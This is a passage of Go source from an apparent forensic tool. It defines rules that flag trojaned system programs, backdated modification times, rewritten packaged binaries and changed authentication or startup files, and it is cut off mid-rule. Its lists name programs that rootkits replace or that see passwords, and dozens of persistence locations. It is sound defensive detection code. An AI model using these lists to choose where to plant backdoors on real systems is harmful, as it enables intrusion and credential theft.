package builtin

import (
	"slices"
	"strconv"
	"strings"
	"time"

	"deadbox/fs/filesystem"
	"deadbox/rules"
	"deadbox/timeline"
)

// upgrades keeps when the package database changed since the baseline, to
// tell files that a package brought anew from files that someone changed.
type upgrades struct {
	seconds map[int64]bool // when a package's own record was written
	rpm     bool           // a database that does not tell packages apart changed
}

const maxUpgrades = 1 << 17

// slack is how long before or after the record of its package a file may be
// written: unpacking one package takes seconds.
const slack = 90

func (u *upgrades) record(r *timeline.Record) {
	c := r.Change
	if c == nil || c.After == nil {
		return
	}
	p := c.After.Path
	if len(p) < 10 || p[:5] != "/var/" && p[:5] != "/lib/" && p[:5] != "/usr/" {
		return
	}
	switch {
	case strings.HasPrefix(p, "/var/lib/dpkg/info/") && (strings.HasSuffix(p, ".list") || strings.HasSuffix(p, ".md5sums") || strings.HasSuffix(p, ".postinst")), strings.HasPrefix(p, "/var/lib/pacman/local/"):
	case strings.HasPrefix(p, "/var/lib/rpm/"), strings.HasPrefix(p, "/usr/lib/sysimage/rpm/"), p == "/lib/apk/db/installed", p == "/usr/lib/apk/db/installed":
		u.rpm = true
		return
	default:
		return
	}
	if u.seconds == nil {
		u.seconds = map[int64]bool{}
	}
	for _, t := range [...]filesystem.Time{c.After.Times.Born, c.After.Times.Changed} {
		if t.Known && len(u.seconds) < maxUpgrades {
			u.seconds[t.Sec] = true
		}
	}
}

// near reports whether the package database changed close to an instant.
func (u *upgrades) near(t filesystem.Time) bool {
	if !t.Known || len(u.seconds) == 0 {
		return false
	}
	for d := int64(0); d <= slack; d++ {
		if u.seconds[t.Sec-d] || u.seconds[t.Sec+d] {
			return true
		}
	}
	return false
}

// explains reports whether a file changed as a package's file does when the
// package is unpacked: it belongs to one, the database changed then, the inode is
// new, and the modification time is the package's own, in whole seconds and
// older.
func (u *upgrades) explains(c *timeline.Change) bool {
	f := c.After
	if !f.InPackage || f.Times.Modified.Known && f.Times.Modified.Nsec != 0 {
		return false
	}
	return u.near(f.Times.Born) || !f.Times.Born.Known && u.near(f.Times.Changed)
}

// heldChange is a change that is judged at the end, when all upgrades are
// known.
type heldChange struct {
	change        timeline.Change
	before, after timeline.File
	ev            timeline.Evidence
	class         int
}

const maxHeld = 1 << 16

type heldChanges struct {
	upgrades
	held []heldChange
	left int
}

func (h *heldChanges) hold(r *timeline.Record, class int) {
	if len(h.held) >= maxHeld {
		h.left++
		return
	}
	c := heldChange{change: *r.Change, ev: r.Evidence, class: class}
	if r.Change.Before != nil {
		c.before = *r.Change.Before
	}
	if r.Change.After != nil {
		c.after = *r.Change.After
	}
	c.before.Xattrs, c.after.Xattrs = nil, nil
	c.change.Differs = slices.Clone(r.Change.Differs)
	h.held = append(h.held, c)
}

// each calls f for what was held.
func (h *heldChanges) each(f func(c *heldChange, ch *timeline.Change)) {
	for i := range h.held {
		c := &h.held[i]
		ch := c.change
		if ch.Before != nil {
			ch.Before = &c.before
		}
		if ch.After != nil {
			ch.After = &c.after
		}
		f(c, &ch)
	}
}

func (h *heldChanges) notes() []string {
	if h.left == 0 {
		return nil
	}
	return []string{plural(h.left, "change") + " beyond the first " + plural(maxHeld, "one") + " were not looked at"}
}

// wrongFile reports whether a change gives a present regular file with other
// content than the baseline's.
func contentChanged(r *timeline.Record) bool {
	c := r.Change
	return c != nil && c.What == "content" && c.After != nil && c.Before != nil && c.After.Type == filesystem.Regular && !c.After.Deleted && !c.After.Unalloc
}

// executesHere reports whether a file of the system's directories is run or
// loaded by others.
func executesHere(f *timeline.File) bool {
	k := runs(f)
	return k == program || k == script && f.Mode&0o111 != 0 || k == maybeRunnable && inSystemBin(f.Path) || strings.Contains(base(f.Path), ".so")
}

// Programs that rootkits of old replace, and those that see every password.
var trojanTargets = set(`sshd ssh su sudo login passwd bash sh dash ps ls netstat ss top htop find lsof ifconfig ip du df who w last lastb md5sum sha256sum syslogd rsyslogd inetd xinetd crond cron
	pstree killall pidof dmesg lsmod modprobe insmod rmmod locate slocate tcpd unix_chkpwd systemd agetty getty mingetty apache2 httpd nginx vsftpd in.ftpd scp sftp-server`)

func trojanTarget(path string) bool {
	n := base(path)
	return trojanTargets[n] || strings.HasPrefix(n, "pam_") && strings.HasSuffix(n, ".so") || strings.HasPrefix(n, "libc.so") || strings.HasPrefix(n, "libc-2") || strings.HasPrefix(n, "ld-linux") || strings.HasPrefix(n, "libpam.so") || strings.HasPrefix(n, "libkeyutils")
}

type systemFileChecker struct {
	env *rules.Env
	heldChanges
}

func (c *systemFileChecker) Record(r *timeline.Record) {
	c.record(r)
	if !contentChanged(r) {
		return
	}
	f := r.Change.After
	if !executesHere(f) {
		return
	}
	if inSystem(f.Path) || strings.HasPrefix(f.Path, "/usr/local/") || strings.HasPrefix(f.Path, "/opt/") {
		if strings.Contains(f.Path, "/__pycache__/") || strings.HasPrefix(f.Path, "/usr/lib/modules/") && strings.Contains(f.Path, "/modules.") {
			return
		}
		c.hold(r, 0)
	}
}

func (c *systemFileChecker) Notes() []string { return c.notes() }

func (c *systemFileChecker) Findings() []rules.Finding {
	var gs rules.Groups
	// Without records of single packages, many files that changed within minutes
	// of each other are an upgrade, a few are not.
	crowd := map[int64]int{}
	if c.rpm && len(c.seconds) == 0 {
		c.each(func(_ *heldChange, ch *timeline.Change) {
			if ch.After.Times.Born.Known && ch.After.Times.Modified.Nsec == 0 {
				crowd[ch.After.Times.Born.Sec/600]++
			}
		})
	}
	c.each(func(h *heldChange, ch *timeline.Change) {
		f := ch.After
		if sameModified(ch) {
			return // the rule on times put back tells it
		}
		if c.explains(ch) || f.Times.Modified.Nsec == 0 && f.Times.Born.Known && crowd[f.Times.Born.Sec/600] >= 16 {
			g := gs.Get("\x00upgrade")
			g.Title = "Files of packages were replaced together with the package database"
			t, note := arrived(f)
			g.Add(h.ev, t, note)
			g.AddPath(f.Path)
			return
		}
		s := rules.High
		switch {
		case !inSystem(f.Path):
			s = rules.Low
		case trojanTarget(f.Path):
			s = rules.Critical
		case !c.env.Packages:
			s = rules.Medium // an upgrade cannot be told from it
		}
		if s == rules.Critical && !c.env.Packages {
			s = rules.High
		}
		g := gs.Get(f.Path)
		g.Raise(s)
		t, note := changed(f)
		g.Add(h.ev, t, note)
		g.AddPath(f.Path)
		g.Summary = showPath(f.Path) + " has other content than in the baseline, and no package upgrade explains it"
	})
	return gs.Findings(func(g *rules.Group) string {
		if g.Title != "" {
			return plural(g.PathCount(), "file") + " of packages changed as an upgrade changes them, beginning with " + showPath(g.Paths()[0])
		}
		return g.Summary
	})
}

// upgraded is the record of a package in dpkg's database, written with it.
func upgraded(pkg string, options ...fileOption) timeline.Record {
	return aChange("content", "/var/lib/dpkg/info/"+pkg+".list", nil, "content", options...)
}

var changedSystemFile = &rules.Rule{
	ID:    "changed-system-file",
	Title: "A system program or library was changed",
	Doc: `Programs, scripts and libraries of the system's directories whose content differs from the baseline's and that no package upgrade explains: an upgrade
writes a new inode with the package's modification time in whole seconds, within a minute and a half of the package's own record. What is explained is counted in one
finding (info). Critical for programs that see passwords or show processes, files and connections.
Innocent: software that updates itself outside of packages (low below /usr/local and /opt); upgrades, where the package database could not be read (medium).`,
	Severity:   rules.High,
	Techniques: []string{"T1554"},
	Kinds:      []string{timeline.KindChange},
	New:        func(env *rules.Env) rules.Checker { return &systemFileChecker{env: env} },
	True: []rules.Example{
		withEnv(withBaseline, one("trojaned ps", rules.Critical, aChange("content", "/usr/bin/ps", nil, "content,modified,size", magic("elf"), perm(0o755), packaged))),
		withEnv(withBaseline, one("library", rules.High, aChange("content", "/usr/lib/x86_64-linux-gnu/libz.so.1.2.13", nil, "content,modified", magic("elf"), packaged))),
		withEnv(withBaseline, one("local program", rules.Low, aChange("content", "/usr/local/bin/backup", nil, "content,modified", magic("script"), perm(0o755)))),
		withEnv(withBaseline, rules.Example{Name: "upgrade, as a count", Severity: rules.Info, Records: []timeline.Record{
			aChange("content", "/usr/bin/ps", nil, "content,modified,size", magic("elf"), perm(0o755), packaged, modified(at(-9000)), born(at(0))), upgraded("procps")}}),
	},
	False: []rules.Example{
		withEnv(withBaseline, quiet("data", aChange("content", "/usr/lib/locale/locale-archive", nil, "content,modified"), aChange("content", "/var/lib/dpkg/status", nil, "content"))),
		withEnv(withBaseline, quiet("compiled cache", aChange("content", "/usr/lib/python3/dist-packages/__pycache__/x.pyc", nil, "content", magic("data")))),
		withEnv(withBaseline, quiet("mode only", aChange("metadata", "/usr/bin/ps", nil, "mode", magic("elf"), perm(0o755), packaged))),
	},
}

// sameModified reports whether a file has other content and yet the
// modification time of the baseline's.
func sameModified(c *timeline.Change) bool {
	a, b := c.After.Times.Modified, c.Before.Times.Modified
	return a.Known && b.Known && a == b && !differs(c, "modified")
}

// copyBeside reports whether a name is that of a copy which tools keep beside a
// file with its times: passwd- of the shadow tools, what editors, dpkg and "cp
// -p" leave.
func copyBeside(path string) bool {
	n := base(path)
	switch {
	case len(n) < 2 || n[0] == '.' && len(n) < 3:
		return false
	case strings.HasSuffix(n, "-") || strings.HasSuffix(n, "~"):
		return true
	}
	for _, ext := range [...]string{".bak", ".orig", ".old", ".save", ".dpkg-old", ".dpkg-dist", ".dpkg-bak", ".ucf-old", ".ucf-dist", ".rpmsave", ".rpmorig", ".rpmnew", ".backup"} {
		if strings.HasSuffix(n, ext) {
			return true
		}
	}
	return false
}

type timestompChecker struct {
	env *rules.Env
	heldChanges
	roots   webRoots
	prelink bool
}

func (c *timestompChecker) Record(r *timeline.Record) {
	c.record(r)
	if r.Change != nil && r.Change.After != nil && r.Change.After.Path == "/etc/prelink.cache" {
		c.prelink = true
	}
	if !contentChanged(r) || r.Change.After.Size == 0 {
		return
	}
	ch := r.Change
	f := ch.After
	same := sameModified(ch)
	back := ch.After.Times.Modified.Known && ch.Before.Times.Modified.Known && ch.After.Times.Modified.Compare(ch.Before.Times.Modified) < 0
	if !same && !back {
		return
	}
	if copyBeside(f.Path) && !(inSystem(f.Path) && executesHere(f)) {
		return
	}
	system := (inSystem(f.Path) || strings.HasPrefix(f.Path, "/boot/") || strings.HasPrefix(f.Path, "/usr/local/") || strings.HasPrefix(f.Path, "/opt/")) && !strings.Contains(f.Path, "/__pycache__/")
	switch {
	case system && same && (executesHere(f) || f.InPackage):
		c.hold(r, 1)
	case same && (strings.HasPrefix(f.Path, "/etc/") || c.roots.root(f.Path) != "" || runs(f) != notRunnable):
		c.hold(r, 2)
	case system && back && executesHere(f):
		c.hold(r, 3)
	}
}

func (c *timestompChecker) Notes() []string { return c.notes() }

func (c *timestompChecker) Findings() []rules.Finding {
	var gs rules.Groups
	c.each(func(h *heldChange, ch *timeline.Change) {
		f := ch.After
		s := rules.Critical
		switch h.class {
		case 2:
			s = rules.High
		case 3:
			if c.explains(ch) {
				return // a downgrade
			}
			s = rules.Medium
		}
		if c.prelink && inSystem(f.Path) {
			s = rules.Low
		}
		g := gs.Get(f.Path)
		g.Raise(s)
		g.Account = c.env.AccountName(f.UID)
		t, note := changed(f)
		g.Add(h.ev, t, note)
		g.AddPath(f.Path)
		m := utc(f.Times.Modified.Std())
		if h.class == 3 {
			g.Title = "A system program has other content and an earlier modification time"
			g.Summary = showPath(f.Path) + " has other content than in the baseline and was modified earlier, " + m + ", if its time is to be believed"
		} else {
			g.Summary = showPath(f.Path) + " has other content than in the baseline, but the same modification time, " + m
		}
		if f.Times.Changed.Known {
			g.Summary += "; its inode changed at " + utc(f.Times.Changed.Std())
		}
	})
	return gs.Findings(nil)
}

var timestompedBinary = &rules.Rule{
	ID:    "timestomped-file",
	Title: "A file was changed and its modification time put back",
	Doc: `A file whose content differs from the baseline's while its modification time is the same, to the nanosecond: programs, libraries and packaged files (critical),
settings, sites' files and scripts (high). Also a system program that is older than the baseline's, unless a package was put back to an older version (medium). Only
someone who wants the change overlooked puts a time back.
Innocent: prelink, which rewrites all programs and keeps their times (low).`,
	Severity:   rules.Critical,
	Techniques: []string{"T1070.006", "T1554"},
	Kinds:      []string{timeline.KindChange},
	New: func(env *rules.Env) rules.Checker {
		return &timestompChecker{env: env, roots: webRootsOf(env)}
	},
	True: []rules.Example{
		withEnv(withBaseline, one("program", rules.Critical, aChange("content", "/usr/bin/ps", []fileOption{modified(at(-5000))}, "changed,content,size", magic("elf"), perm(0o755), packaged, modified(at(-5000))))),
		withEnv(withBaseline, one("script of a site", rules.High, aChange("content", "/var/www/html/index.php", []fileOption{modified(at(-5000))}, "changed,content,size", magic("php"), modified(at(-5000))))),
		withEnv(withBaseline, one("older than before", rules.Medium, aChange("content", "/usr/bin/ls", []fileOption{modified(at(-5000))}, "changed,content,modified", magic("elf"), perm(0o755), packaged, modified(at(-9000))))),
	},
	False: []rules.Example{
		withEnv(withBaseline, quiet("upgrade", aChange("content", "/usr/bin/ps", nil, "content,modified", magic("elf"), perm(0o755), packaged, modified(at(-500))))),
		withEnv(withBaseline, quiet("copies with their times", aChange("content", "/etc/passwd-", []fileOption{modified(at(-5000))}, "changed,content,size", modified(at(-5000))), aChange("content", "/etc/nginx/nginx.conf.bak", []fileOption{modified(at(-5000))}, "changed,content,size", modified(at(-5000))))),
		withEnv(withBaseline, quiet("downgrade of a package", upgraded("coreutils"), aChange("content", "/usr/bin/ls", []fileOption{modified(at(-5000))}, "changed,content,modified", magic("elf"), perm(0o755), packaged, modified(at(-9000))))),
		withEnv(withBaseline, quiet("database", aChange("content", "/var/lib/mysql/ibdata1", []fileOption{modified(at(-5000))}, "content", magic("data"), modified(at(-5000))))),
		withEnv(withBaseline, quiet("edited", aChange("content", "/etc/hosts", nil, "content,modified"))),
	},
}

// rewrittenChecker looks for packaged programs that were written after they
// were unpacked.
type rewrittenChecker struct {
	env    *rules.Env
	groups rules.Groups
	// Without a baseline: packaged programs whose inode changed a day or more
	// after its birth, and how many did not.
	late rules.Groups
	calm int
}

// manyRewritten is the number from which on it is the packages themselves
// that carry fractions of seconds.
const manyRewritten = 100

// maxLate is the most programs whose inodes changed late that are worth a
// finding: a relabelling or a backup touches all.
const maxLate = 20

func (c *rewrittenChecker) Record(r *timeline.Record) {
	f := r.File
	if f == nil || !f.InPackage || f.Type != filesystem.Regular || f.Mode&0o111 == 0 && !strings.Contains(f.Path, ".so") {
		return
	}
	if f = judged(c.env, r); f == nil || !f.InPackage || !f.Times.Modified.Known || f.Size == 0 || !inSystem(f.Path) {
		return
	}
	if r.Kind == timeline.KindChange && r.Change.What != "added" {
		return // told as a change
	}
	if f.Mode&0o111 == 0 && !strings.Contains(base(f.Path), ".so") || strings.Contains(f.Path, "/node_modules/") || strings.Contains(f.Path, "-packages/") {
		return
	}
	if f.Times.Modified.Nsec == 0 {
		c.lateChange(r, f)
		return
	}
	g := c.groups.Get(f.Path)
	s := rules.High
	if f.Size < 1024 {
		s = rules.Medium
	}
	g.Raise(s)
	g.AddPath(f.Path)
	g.Add(r.Evidence, f.Times.Modified.Std(), "the file's last modification")
	g.Summary = showPath(f.Path) + " belongs to a package and was written at " + f.Times.Modified.Std().UTC().Format(time.RFC3339Nano) + ": packages carry whole seconds, so something else wrote it"
}

// lateChange counts a program that the package manager may have unpacked.
func (c *rewrittenChecker) lateChange(r *timeline.Record, f *timeline.File) {
	t := f.Times
	if c.env.Baseline || !t.Born.Known || !t.Changed.Known {
		return
	}
	if t.Changed.Sec-t.Born.Sec < 24*3600 {
		c.calm++
		return
	}
	g := c.late.Get(f.Path)
	s := rules.Medium
	if f.Mode&0o011 == 0 {
		s = rules.Low // taken from others: hardening
	}
	g.Raise(s)
	g.Title = "A packaged program's inode was changed long after it was unpacked"
	g.Techniques = []string{"T1070.006", "T1554"}
	g.AddPath(f.Path)
	g.Add(r.Evidence, t.Changed.Std(), "the inode's last change")
	g.Summary = showPath(f.Path) + " belongs to a package and was unpacked at " + utc(t.Born.Std()) + "; its inode changed at " + utc(t.Changed.Std()) +
		", though its modification time is " + utc(t.Modified.Std()) + ": its content, rights or times were set then"
}

func (c *rewrittenChecker) Findings() []rules.Finding {
	var late []rules.Finding
	if late = c.late.Findings(nil); len(late) > maxLate || len(late)*50 > c.calm {
		late = nil
	}
	return append(c.written(), late...)
}

// written are the programs whose times have fractions.
func (c *rewrittenChecker) written() []rules.Finding {
	out := c.groups.Findings(nil)
	if len(out) < manyRewritten {
		return out
	}
	var all rules.Group
	c.groups.All(func(_ string, g *rules.Group) { all.Merge(g) })
	f := all.Finding()
	f.Severity = rules.Info
	f.Title = "Packaged programs carry fractions of seconds"
	f.Summary = plural(all.Count, "packaged program") + " have modification times with fractions of a second: either this system's packages do, or all were written anew"
	return []rules.Finding{f}
}

// unpacked are n programs as a package manager leaves them.
func unpacked(n int) []timeline.Record {
	var out []timeline.Record
	for i := range n {
		out = append(out, aFile("/usr/bin/tool"+strconv.Itoa(i), magic(""), perm(0o755), packaged, modified(at(-90000))))
	}
	return out
}

var packagedFileRewritten = &rules.Rule{
	ID:    "packaged-file-rewritten",
	Title: "A packaged program was written after it was unpacked",
	Doc: `Programs and libraries in the system's directories that a package owns and whose modification time has a fraction of a second. The archives of dpkg and rpm hold
whole seconds, so that a file that they unpacked has none; a program that was replaced or patched in place has. Also one whose inode changed a day or more after it
was unpacked, if nearly no other did (medium): that is how a program looks that was patched and had its times put back. This needs no baseline.
Lighter for files below a kilobyte (medium): builders of images put small scripts in the place of programs. Info if there are a hundred or more.
Innocent: software that updates itself in its package's place.`,
	Severity:   rules.High,
	Techniques: []string{"T1554"},
	Kinds:      fileKinds,
	New:        func(env *rules.Env) rules.Checker { return &rewrittenChecker{env: env} },
	True: []rules.Example{
		withEnv(withPackages, one("patched", rules.High, aFile("/usr/bin/ss", magic(""), perm(0o755), packaged, modified(at(3).Add(123456789))))),
		withEnv(withBaseline, one("package is new, too", rules.High, anAdded("/usr/bin/ss", magic("elf"), perm(0o755), packaged, modified(at(3).Add(123456789))))),
		withEnv(withPackages, rules.Example{Name: "patched, times put back", Severity: rules.Medium, Records: append(unpacked(60),
			aFile("/usr/bin/ls", magic(""), perm(0o755), packaged, modified(at(-90000)), born(at(-50000))))}),
		withEnv(withPackages, one("stub", rules.Medium, aFile("/usr/sbin/initctl", magic(""), perm(0o755), size(60), packaged, modified(at(3).Add(5))))),
	},
	False: []rules.Example{
		withEnv(withPackages, rules.Example{Name: "all were relabelled", Records: []timeline.Record{
			aFile("/usr/bin/ls", magic(""), perm(0o755), packaged, modified(at(-90000)), born(at(-50000))), aFile("/usr/bin/ps", magic(""), perm(0o755), packaged, modified(at(-90000)), born(at(-50000)))}}),
		withEnv(withPackages, quiet("as unpacked", aFile("/usr/bin/ss", perm(0o755), packaged))),
		withEnv(withPackages, quiet("settings", aFile("/etc/ssh/sshd_config", packaged, modified(at(3).Add(123456789))))),
		withEnv(withPackages, quiet("not a package's", aFile("/usr/local/bin/x", perm(0o755), modified(at(3).Add(123456789))))),
		withEnv(withBaseline, quiet("known", aFile("/usr/bin/ss", perm(0o755), packaged, modified(at(3).Add(123456789))))),
	},
}

var newSystemBinary = &rules.Rule{
	ID:    "new-system-program",
	Title: "A program is new in the system's directories and no package brings it",
	Doc: `ELF files and executable scripts that the baseline lacks, in the directories of programs and libraries, not in the package database. Low below /usr/local and /opt,
where administrators install by hand; medium where the package database could not be read.
Innocent: installers of vendors.`,
	Severity:   rules.High,
	Techniques: []string{"T1105", "T1036.005"},
	Kinds:      []string{timeline.KindChange},
	New: func(env *rules.Env) rules.Checker {
		return &fileChecker{env: env, say: andMore, look: func(f *timeline.File, r *timeline.Record) *fileHit {
			if !added(r) || f.Type != filesystem.Regular || f.InPackage || f.Size == 0 {
				return nil
			}
			local := strings.HasPrefix(f.Path, "/usr/local/") || strings.HasPrefix(f.Path, "/opt/")
			if !local && !inSystem(f.Path) {
				return nil
			}
			k := runs(f)
			if k == notRunnable || k == script && f.Mode&0o111 == 0 || strings.Contains(f.Path, "/modules/") || strings.HasPrefix(f.Path, "/usr/lib/debug/") || inContainerStore(f.Path) ||
				strings.Contains(f.Path, "/node_modules/") || strings.Contains(f.Path, "/site-packages/") || strings.Contains(f.Path, "/dist-packages/") {
				return nil
			}
			s := rules.High
			switch {
			case local:
				s = rules.Low
			case k == maybeRunnable || !env.Packages:
				s = rules.Medium
			}
			parent, _ := dirBase(f.Path)
			return &fileHit{key: parent, severity: s, summary: "The " + k.String() + " " + showPath(f.Path) + " of " + ownerText(env, f.UID) + " is new, and no package brings it"}
		}}
	},
	True: []rules.Example{
		withEnv(withBaseline, one("program", rules.High, anAdded("/usr/bin/sysupd", magic("elf"), perm(0o755)))),
		withEnv(withBaseline, one("library", rules.High, anAdded("/usr/lib/x86_64-linux-gnu/security/pam_up.so", magic("elf")))),
		withEnv(withBaseline, one("local", rules.Low, anAdded("/usr/local/bin/tool", magic("elf"), perm(0o755)))),
	},
	False: []rules.Example{
		withEnv(withBaseline, quiet("package's", anAdded("/usr/bin/jq", magic("elf"), perm(0o755), packaged))),
		withEnv(withBaseline, quiet("alternative and cache", anAdded("/usr/bin/editor", link("/etc/alternatives/editor")), anAdded("/usr/lib/python3/dist-packages/__pycache__/x.pyc", magic("data")))),
		withEnv(withBaseline, quiet("modules of a new kernel", anAdded("/usr/lib/modules/6.1.0-19-amd64/modules.dep", magic("text")))),
		withEnv(withPackages, quiet("no baseline", aFile("/usr/bin/sysupd", magic("elf"), perm(0o755)))),
	},
}

// pathClass names a set of places and what it means that one changes.
type pathClass struct {
	name       string
	severity   rules.Severity // of an addition or change
	techniques []string
	match      func(path string) bool
}

func prefix(list ...string) func(string) bool {
	return func(p string) bool {
		for _, l := range list {
			if strings.HasPrefix(p, l) {
				return true
			}
		}
		return false
	}
}

func exactly(list ...string) func(string) bool {
	return func(p string) bool { return slices.Contains(list, p) }
}

var authenticationFiles = []pathClass{
	{"how logins are checked", rules.Medium, []string{"T1556.003"}, prefix("/etc/pam.d/", "/etc/security/")},
	{"the SSH server's settings", rules.Medium, []string{"T1098.004", "T1556"}, prefix("/etc/ssh/sshd_config")},
	{"who may become root", rules.Medium, []string{"T1548.003"}, prefix("/etc/sudoers", "/etc/doas.conf", "/etc/polkit-1/rules.d/", "/usr/share/polkit-1/rules.d/")},
	{"where libraries are sought", rules.Medium, []string{"T1574.006"}, prefix("/etc/ld.so.conf")},
	{"which accounts there are", rules.Low, []string{"T1136.001", "T1098"}, exactly("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow")},
	{"where accounts are looked up", rules.Low, []string{"T1556"}, exactly("/etc/nsswitch.conf", "/etc/login.defs")},
	{"what is logged", rules.Low, []string{"T1685"}, prefix("/etc/rsyslog", "/etc/syslog-ng/", "/etc/syslog.conf", "/etc/systemd/journald.conf", "/etc/audit/")},
	{"what confines programs", rules.Low, []string{"T1685"}, exactly("/etc/selinux/config", "/etc/default/apparmor")},
}

var startupFiles = []pathClass{
	{"a unit of systemd", rules.Medium, []string{"T1543.002"}, func(p string) bool {
		if !(strings.HasSuffix(p, ".service") || strings.HasSuffix(p, ".socket") || strings.HasSuffix(p, ".path") || strings.HasSuffix(p, ".conf") && strings.Contains(p, ".d/")) {
			return false
		}
		return prefix("/etc/systemd/system/", "/etc/systemd/user/", "/usr/lib/systemd/system/", "/lib/systemd/system/", "/usr/lib/systemd/user/", "/usr/local/lib/systemd/")(p) || strings.Contains(p, "/.config/systemd/user/")
	}},
	{"a timer of systemd", rules.Medium, []string{"T1053.006"}, func(p string) bool {
		return strings.HasSuffix(p, ".timer") && strings.Contains(p, "/systemd/")
	}},
	{"a generator of systemd", rules.High, []string{"T1543.002"}, prefix("/etc/systemd/system-generators/", "/etc/systemd/user-generators/", "/usr/lib/systemd/system-generators/", "/lib/systemd/system-generators/", "/usr/local/lib/systemd/system-generators/", "/etc/systemd/system-environment-generators/")},
	{"a script that runs at boot", rules.Medium, []string{"T1037.004"}, func(p string) bool {
		return p == "/etc/rc.local" || p == "/etc/inittab" || prefix("/etc/init.d/", "/etc/rc.d/", "/etc/init/", "/etc/local.d/")(p) && base(p) != ".depend.boot"
	}},
	{"a crontab or a script that cron runs", rules.Medium, []string{"T1053.003"}, func(p string) bool {
		return p == "/etc/crontab" || p == "/etc/anacrontab" || prefix("/etc/cron.", "/var/spool/cron/", "/var/cron/tabs/")(p) && base(p) != ".placeholder"
	}},
	{"a job of at", rules.Medium, []string{"T1053.002"}, func(p string) bool {
		return prefix("/var/spool/at/", "/var/spool/cron/atjobs/")(p) && base(p) != ".SEQ"
	}},
	{"what every shell reads", rules.Medium, []string{"T1546.004"}, func(p string) bool {
		if prefix("/etc/profile", "/etc/bash.bashrc", "/etc/bashrc", "/etc/zsh", "/etc/environment", "/etc/bash.bash_logout", "/etc/csh.")(p) {
			return true
		}
		switch n := base(p); n {
		case ".bashrc", ".bash_profile", ".profile", ".bash_login", ".bash_logout", ".zshrc", ".zshenv", ".zprofile", ".bash_aliases":
			return strings.HasPrefix(p, "/root/") || strings.HasPrefix(p, "/home/")
		case "rc", "environment":
			return strings.HasSuffix(p, "/.ssh/"+n)
		}
		return false
	}},
	{"a rule of udev", rules.Low, []string{"T1546.017"}, prefix("/etc/udev/rules.d/", "/usr/lib/udev/rules.d/", "/lib/udev/rules.d/")},
	{"what loads kernel modules", rules.Low, []string{"T1547.006"}, func(p string) bool {
		return p == "/etc/modules" || prefix("/etc/modules-load.d/", "/etc/modprobe.d/", "/usr/lib/modules-load.d/")(p)
	}},
	{"a script of the login message", rules.Medium, []string{"T1546"}, prefix("/etc/update-motd.d/")},
	{"a hook of the package manager", rules.Low, []string{"T1546.016"}, prefix("/etc/apt/apt.conf.d/", "/etc/apt/apt.conf", "/etc/yum/pluginconf.d/", "/usr/lib/yum-plugins/", "/etc/dnf/plugins/", "/etc/dpkg/dpkg.cfg.d/", "/etc/kernel/post", "/etc/initramfs-tools/")},
	{"a hook of the network", rules.Medium, []string{"T1546"}, prefix("/etc/NetworkManager/dispatcher.d/", "/etc/network/if-", "/etc/dhcp/dhclient-", "/etc/networkd-dispatcher/", "/etc/ppp/ip-")},
	{"a service of D-Bus", rules.Low, []string{"T1543"}, prefix("/usr/share/dbus-1/system-services/", "/etc/dbus-1/system.d/")},
	{"what a desktop starts", rules.Low, []string{"T1547.013"}, func(p string) bool { return strings.HasSuffix(p, ".desktop") && strings.Contains(p, "/autostart/") }},
	{"what every Python program loads", rules.Medium, []string{"T1546.018"}, func(p string) bool {
		n := base(p)
		return (n == "sitecustomize.py" || n == "usercustomize.py" || strings.HasSuffix(n, ".pth")) && strings.Contains(p, "/python")
	}},
	{"a hook of git", rules.Low, []string{"T1546"}, func(p string) bool { return strings.Contains(p, ".git/hooks/") && !strings.HasSuffix(p, ".sample") }},
	{"the boot loader's settings", rules.Low, []string{"T1542"}, func(p string) bool { return p == "/etc/default/grub" || strings.HasPrefix(p, "/etc/grub.d/") }},
}

// classChecker reports additions and changes of content below some places.
type classChecker struct {
	env     *rules.Env
	classes []pathClass
	heldChanges
	skel map[string]int64 // sizes of the files that a new home is filled with, by name
}

func (c *classChecker) Record(r *timeline.Record) {
	ch := r.Change
	if f := r.File; f != nil && len(f.Path) > 10 && f.Path[:10] == "/etc/skel/" {
		if c.skel == nil {
			c.skel = map[string]int64{}
		}
		if len(c.skel) < 256 {
			c.skel[strings.Clone(f.Path[10:])] = f.Size
		}
	}
	if ch == nil {
		return
	}
	c.record(r)
	f := ch.After
	if f == nil || f.Type != filesystem.Regular || f.Deleted || f.Unalloc || ch.What != "added" && ch.What != "content" && ch.What != "type" {
		return
	}
	p := f.Path
	switch {
	case len(p) < 6:
		return
	case p[1] == 'v' && !strings.HasPrefix(p, "/var/spool/") && !strings.HasPrefix(p, "/var/cron/"):
		return
	case inContainerStore(p):
		return
	}
	// What editors and package managers leave beside a file does nothing.
	n := base(p)
	if strings.HasSuffix(n, "~") || strings.HasSuffix(n, "-") || strings.HasSuffix(n, ".dpkg-old") || strings.HasSuffix(n, ".dpkg-dist") || strings.HasSuffix(n, ".dpkg-new") || strings.HasSuffix(n, ".rpmnew") || strings.HasSuffix(n, ".rpmsave") || strings.HasSuffix(n, ".ucf-dist") {
		return
	}
	for i := range c.classes {
		if c.classes[i].match(p) {
			c.hold(r, i)
			return
		}
	}
}

func (c *classChecker) Notes() []string { return c.notes() }

func (c *classChecker) Findings() []rules.Finding {
	var gs rules.Groups
	c.each(func(h *heldChange, ch *timeline.Change) {
		f := ch.After
		if c.explains(ch) {
			return
		}
		if ch.What == "added" && strings.HasPrefix(f.Path, "/home/") {
			if n, ok := c.skel[base(f.Path)]; ok && n == f.Size {
				return // a new account's home
			}
		}
		class := c.classes[h.class]
		s := class.severity
		// What a package's scripts write while it is set up.
		if c.near(f.Times.Changed) {
			if s <= rules.Low {
				return
			}
			s = rules.Low
		}
		g := gs.Get(f.Path)
		g.Raise(s)
		g.Techniques = class.techniques
		g.Account = c.env.AccountName(f.UID)
		t, note := arrived(f)
		verb := "is new since the baseline"
		if ch.What != "added" {
			t, note = changed(f)
			verb = "differs from the baseline's"
		}
		g.Add(h.ev, t, note)
		g.AddPath(f.Path)
		g.Summary = showPath(f.Path) + " (" + class.name + ") " + verb
	})
	return gs.Findings(nil)
}

var changedAuthentication = &rules.Rule{
	ID:    "changed-authentication",
	Title: "A file that decides who gets in or becomes root was changed",
	Doc: `Files of PAM, the SSH server, sudo, polkit, the loader's paths, accounts and logging that are new or have other content than the baseline's, unless a package
upgrade wrote them. The files of accounts and of logging are low, as they change in honest work.
Innocent: an administrator's change since the baseline.`,
	Severity:   rules.Medium,
	Techniques: []string{"T1556"},
	Kinds:      []string{timeline.KindChange},
	New: func(env *rules.Env) rules.Checker {
		return &classChecker{env: env, classes: authenticationFiles}
	},
	True: []rules.Example{
		withEnv(withBaseline, one("PAM", rules.Medium, aChange("content", "/etc/pam.d/sshd", nil, "content,modified", packaged))),
